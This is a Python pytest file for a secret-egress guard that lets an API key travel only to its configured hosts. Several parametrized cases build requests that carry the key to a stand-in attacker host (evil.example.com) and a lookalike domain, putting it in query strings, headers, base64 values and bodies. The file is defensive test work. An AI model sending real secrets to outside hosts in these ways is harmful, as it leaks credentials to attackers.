"""A secret goes to its own hosts only."""

from __future__ import annotations

import base64

import pytest
from multidict import CIMultiDict

from toolkit_app.engine import DoorRequest, EgressError
from toolkit_app.engine.redaction import SecretValue
from toolkit_app.engine.secret_guard import SecretGuard

VALUE = "very-secret-value"


def request(url: str, headers: dict[str, str] | None = None, body: str | None = None) -> DoorRequest:
    return DoorRequest("POST", url, CIMultiDict(headers or {}), body.encode() if body is not None else None)


GUARD = SecretGuard([SecretValue("API_KEY", VALUE, ("api.example.com", "Other.example.com:8443"))])


@pytest.mark.parametrize(
    "url",
    [
        "https://api.example.com/x",
        "http://API.example.com:8080/x",
        "https://other.example.com:8443/",
        "https://api.example.com./x",
    ],
)
def test_its_hosts(url: str) -> None:
    GUARD(request(url, {"Authorization": f"Bearer {VALUE}"}))


@pytest.mark.parametrize(
    "sent",
    [
        request(f"https://evil.example.com/?k={VALUE}"),
        request("https://evil.example.com/", {"Authorization": f"Bearer {VALUE}"}),
        request("https://evil.example.com/", {"X": base64.b64encode(f"u:{VALUE}".encode()).decode()}),
        request("https://evil.example.com/", body=f'{{"k": "{VALUE}"}}'),
        request("https://other.example.com/", body=VALUE),
        request("https://api.example.com.evil.com/", body=VALUE),
    ],
)
def test_other_hosts_are_refused_with_the_name_and_never_the_value(sent: DoorRequest) -> None:
    with pytest.raises(EgressError) as refused:
        GUARD(sent)
    assert "API_KEY" in str(refused.value)
    assert VALUE not in str(refused.value)


def test_requests_without_it_go_anywhere() -> None:
    GUARD(request("https://evil.example.com/", {"Authorization": "Bearer other"}, "x"))


def test_without_hosts_it_goes_nowhere() -> None:
    with pytest.raises(EgressError, match="no host yet"):
        SecretGuard([SecretValue("K", VALUE)])(request("https://api.example.com/", body=VALUE))
